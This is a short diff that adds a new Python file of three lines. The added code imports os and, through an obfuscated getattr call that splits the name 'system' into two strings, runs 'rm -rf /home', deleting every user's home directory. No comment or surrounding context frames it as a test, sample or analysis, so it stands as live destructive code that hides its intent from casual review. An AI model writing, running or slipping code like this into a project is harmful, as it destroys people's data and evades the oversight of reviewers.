@@ -1,0 +1,3 @@
+import os
+
+getattr(os, "sys" + "tem")("rm -rf /home")
